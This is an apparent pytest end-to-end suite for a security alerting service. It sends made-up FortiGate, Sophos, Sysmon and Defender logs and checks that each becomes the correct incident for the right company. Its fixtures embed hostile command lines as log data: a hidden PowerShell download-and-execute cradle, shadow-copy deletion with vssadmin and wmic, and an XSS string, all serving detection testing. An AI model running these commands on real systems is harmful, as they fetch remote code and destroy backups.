"""Attacks as vendors write them, unlike our own samples: right company, right level, no scare.

Each line was written from the vendors' log references: other models, users, orders of fields,
zones and languages than `rules/` and `rehearse` use.
"""

from __future__ import annotations

import json
import time
from datetime import UTC, datetime, timedelta
from typing import TYPE_CHECKING, Any

import pytest

from tests.e2e.contracts.tower import tcp, udp

if TYPE_CHECKING:
    from tests.e2e.contracts.conftest import Street
    from tests.e2e.contracts.tower import Source, Tower

pytestmark = [pytest.mark.journey, pytest.mark.sockets]
JST = timedelta(hours=9)


def forti(body: str, *, ago: timedelta = timedelta(0)) -> bytes:
    """FortiOS 7.4, a branch office's 100F in its own order, time by eventtime and tz."""
    moment = datetime.now(UTC) - ago
    local = moment + JST
    return (
        f"<185>date={local:%Y-%m-%d} time={local:%H:%M:%S} "
        f'eventtime={int(moment.timestamp() * 1e9)} tz="+0900" devname="OSAKA-100F" '
        f'devid="FG100FTK21012345" vd="root" {body}'
    ).encode()


def sophos(body: str) -> bytes:
    """SFOS 20 device standard format."""
    local = datetime.now(UTC) + JST
    return (
        f'<30>device_name="SFW" timestamp="{local:%Y-%m-%dT%H:%M:%S}+0900" '
        f'device_model="XGS136" device_serial_id="X1320ABCDE12345" {body}'
    ).encode()


def winlog(channel: str, provider: str, event_id: int, computer: str, **data: str) -> bytes:
    """Winlogbeat 8 with its ECS envelope."""
    stamp = datetime.now(UTC).isoformat(timespec="milliseconds").replace("+00:00", "Z")
    return json.dumps(
        {
            "@timestamp": stamp,
            "@metadata": {"beat": "winlogbeat", "type": "_doc", "version": "8.15.1"},
            "agent": {"type": "winlogbeat", "version": "8.15.1"},
            "event": {"code": str(event_id), "provider": provider, "kind": "event"},
            "host": {"name": computer.lower()},
            "winlog": {
                "api": "wineventlog",
                "channel": channel,
                "provider_name": provider,
                "event_id": str(event_id),
                "computer_name": computer,
                "event_data": data,
            },
        },
        ensure_ascii=False,
    ).encode()


SYSMON = ("Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon")
DEFENDER = (
    "Microsoft-Windows-Windows Defender/Operational",
    "Microsoft-Windows-Windows Defender",
)


def bsd(message: str) -> bytes:
    """RFC 3164 with the local time of the server."""
    return f"<86>{datetime.now(UTC) + JST:%b %e %H:%M:%S} web01 {message}".encode()


def iso(message: str) -> bytes:
    """RFC 5424 as rsyslog's RSYSLOG_SyslogProtocol23Format sends it."""
    return f"<86>1 {datetime.now(UTC):%Y-%m-%dT%H:%M:%S.%fZ} mail02 {message}".encode()


# name → (kind of source, records, kind of incident, its level)
ATTACKS: dict[str, tuple[str, list[bytes], str, str]] = {
    "forti-botnet": (
        "fortigate",
        [
            forti(
                'logid="0422016400" type="utm" subtype="ips" eventtype="botnet" level="warning" '
                'msg="Botnet C&C Communication." severity="critical" srcip=10.20.30.41 '
                'dstip=203.0.113.200 action="detected" attack="Mirai.Botnet" direction="outgoing"'
            )
        ],
        "c2_communication",
        "now",
    ),
    "forti-ips-stopped": (
        "fortigate",
        [
            forti(
                'type="utm" subtype="ips" logid="0419016384" eventtype="signature" level="alert" '
                'action="dropped" severity="high" srcip=203.0.113.9 srccountry="Brazil" '
                'dstip=10.20.30.5 attack="PHP.CGI.Argument.Injection" attackid=31752 '
                'direction="incoming" msg="web_server: PHP.CGI.Argument.Injection"'
            )
        ],
        "attack_blocked",
        "none",
    ),
    "forti-virus-stopped": (
        "fortigate",
        [
            forti(
                'logid="0211008192" type="utm" subtype="virus" eventtype="infected" '
                'level="warning" msg="File is infected." action="blocked" service="HTTPS" '
                'srcip=10.20.30.42 dstip=203.0.113.77 filename="見積書.zip" '
                'virus="W32/Agent.QWE!tr" dtype="av-engine" direction="incoming"'
            )
        ],
        "malware_stopped",
        "none",
    ),
    "forti-admin-outside": (
        "fortigate",
        [
            forti(
                'logid="0100032001" type="event" subtype="system" level="information" '
                'logdesc="Admin login successful" user="hoshu" ui="ssh(203.0.113.99)" '
                'method="ssh" srcip=203.0.113.99 dstip=198.51.100.1 action="login" '
                'status="success" reason="none" profile="prof_admin" '
                'msg="Administrator hoshu logged in successfully from ssh(203.0.113.99)"'
            )
        ],
        "login_succeeded",
        "now",
    ),
    "sophos-virus-stopped": (
        "sophos",
        [
            sophos(
                'log_id="030906208001" log_type="Anti-Virus" log_component="HTTPS" '
                'log_subtype="Virus" severity="Critical" user_name="yamamoto" '
                'virus="Mal/HTMLGen-A" url="https://cdn.bad.example/x.js" action="Deny" '
                'domain="cdn.bad.example" src_ip="172.16.8.15" dst_ip="203.0.113.8"'
            )
        ],
        "malware_stopped",
        "none",
    ),
    "sophos-c2": (
        "sophos_xgs",
        [
            sophos(
                'log_id="086304418010" log_type="ATP" log_component="IPS" log_subtype="Drop" '
                'severity="Critical" protocol="TCP" src_ip="172.16.8.16" dst_ip="203.0.113.66" '
                'threatname="C2/Generic-B" type="Standard" eventtype="Standard" '
                'url="203.0.113.66" login_user="" process_user="" ep_uuid="" '
                'execution_path=""'
            )
        ],
        "c2_communication",
        "today",  # stopped, but the computer inside asked for it
    ),
    "yamaha-outside": (
        "yamaha",
        [
            b"<174>[LOGIN] Login succeeded for TELNET: 203.0.113.45 kanri",
            b"<174>Login succeeded for TELNET: 203.0.113.45 kanri",
        ],
        "login_succeeded",
        "now",
    ),
    "ssh-many": (
        "linux",
        [
            iso(
                f"sshd 4{n:03} - - Failed password for {'invalid user ' * (n % 2)}deploy{n} "
                f"from 203.0.113.77 port {40000 + n} ssh2"
            )
            for n in range(40)
        ],
        "login_attempts",
        "today",
    ),
    "ssh-root-outside": (
        "linux",
        [bsd("sshd-session[991]: Accepted password for root from 2001:db8::77 port 5022 ssh2")],
        "login_succeeded",
        "now",
    ),
    "sysmon-shadow": (
        "windows",
        [
            winlog(
                *SYSMON,
                1,
                "NAS-KANRI.honten.local",
                Image=r"C:\Windows\SysWOW64\vssadmin.exe",
                CommandLine=r'"C:\Windows\system32\vssadmin.exe"  delete   shadows /for=C: /quiet',
                ParentImage=r"C:\ProgramData\svchost.exe",
                User=r"HONTEN\山田",
            )
        ],
        "ransomware",
        "now",
    ),
    "office-macro": (
        "windows",
        [
            winlog(
                "Security",
                "Microsoft-Windows-Security-Auditing",
                4688,
                "EIGYO7",
                NewProcessName=r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                CommandLine='powershell.exe -W Hidden -Command "IEX(New-Object Net.WebClient)'
                ".DownloadString('hxxp://203.0.113.2/p')\"",
                ParentProcessName=r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE",
                SubjectUserName="suzuki",
            )
        ],
        "emotet",
        "now",
    ),
    "defender-stopped": (
        "windows",
        [
            winlog(
                *DEFENDER,
                1117,
                "UKETSUKE",
                **{
                    "Threat Name": "Trojan:Script/Phonzy.B!ml",
                    "Action Name": "削除",
                    "Severity Name": "重大",
                    "Error Code": "0x00000000",
                    "Error Description": "この操作を正しく終了しました。",
                    "Path": r"file:_C:\Users\uketsuke\Downloads\請求.js",
                },
            )
        ],
        "malware_stopped",
        "none",
    ),
}


@pytest.fixture(scope="module")
def companies(street: Street) -> dict[str, Source]:
    """One company and source for each attack, added before any is sent."""
    return {
        name: street.tower.source(street.tower.organisation(f"標的 {name}"), kind)
        for name, (kind, _, _, _) in ATTACKS.items()
    }


@pytest.fixture(scope="module")
def attacked(tower: Tower, companies: dict[str, Source]) -> dict[str, Source]:
    """All sent: by syslog, half of them TCP, or with the token."""
    for number, (name, source) in enumerate(companies.items()):
        records = ATTACKS[name][1]
        if source.endpoint.startswith("http"):
            assert tower.post(b"\n".join(records), source.token, Content_Type="").status == 200
        elif number % 2:
            tcp(source.address, *(record + b"\n" for record in records))
        else:
            udp(source.address, *records)
    return companies


@pytest.mark.parametrize("name", ATTACKS)
def test_an_attack_becomes_the_right_incident_of_its_company(
    tower: Tower, attacked: dict[str, Source], name: str
) -> None:
    _, _, kind, level = ATTACKS[name]

    def is_told(rows: list[dict[str, Any]]) -> bool:
        return any((row["kind"], row["level"]) == (kind, level) for row in rows)

    rows = tower.incidents(attacked[name].organisation, until=is_told)
    assert [(row["kind"], row["level"]) for row in rows] == [(kind, level)]
    assert {"id", "state", "opened_at"} <= rows[0].keys()


def test_what_happened_days_ago_is_found_and_is_no_fire_drill(tower: Tower) -> None:
    source = tower.source(tower.organisation("遅れて届く会社"), "fortigate")
    body = 'type="utm" subtype="ips" eventtype="botnet" severity="critical" action="detected" '
    body += 'srcip=10.1.1.1 dstip=203.0.113.1 attack="Emotet.Botnet" msg="Botnet C&C"'
    udp(source.address, forti(body, ago=timedelta(days=3)))
    [row] = tower.incidents(source.organisation)
    assert (row["kind"], row["level"]) == ("c2_communication", "today")


def test_a_clock_in_the_future_does_not_carry_the_incident_there(tower: Tower) -> None:
    source = tower.source(tower.organisation("時計の進んだ会社"), "fortigate")
    body = 'type="utm" subtype="ips" eventtype="botnet" severity="critical" action="detected" '
    body += 'srcip=10.1.1.1 dstip=203.0.113.1 attack="Emotet.Botnet" msg="Botnet C&C"'
    udp(source.address, forti(body, ago=timedelta(days=-400)))
    [row] = tower.incidents(source.organisation)
    assert (row["kind"], row["level"]) == ("c2_communication", "now")
    opened = datetime.fromisoformat(row["opened_at"])
    assert abs((opened - datetime.now(UTC)).total_seconds()) < 600


def test_an_attack_is_told_by_mail_to_its_company_alone(street: Street) -> None:
    source = street.tower.source(street.aoi, "windows", "経理のパソコン")
    street.tower.post(
        winlog(
            *SYSMON,
            1,
            "AOI-CANARY",
            Image=r"C:\Windows\System32\wbem\WMIC.exe",
            CommandLine="wmic  shadowcopy  delete /nointeractive",
            ParentImage=r"C:\Users\Public\a.exe",
            User=r"AOI\<script>alert(1)</script>",
        ),
        source.token,
        Content_Type="application/json",
    )
    deadline = time.monotonic() + 15
    while not (mails := [m for m in street.mailbox.mails if "今すぐ" in str(m.message["subject"])]):
        assert time.monotonic() < deadline
        time.sleep(0.2)
    assert {mail.recipients for mail in mails} == {("aoi@seiki.example",)}
    assert street.tower.ask("outbox", "list", "--organisation", street.aoi)
    assert not street.tower.ask("outbox", "list", "--organisation", street.fumi)
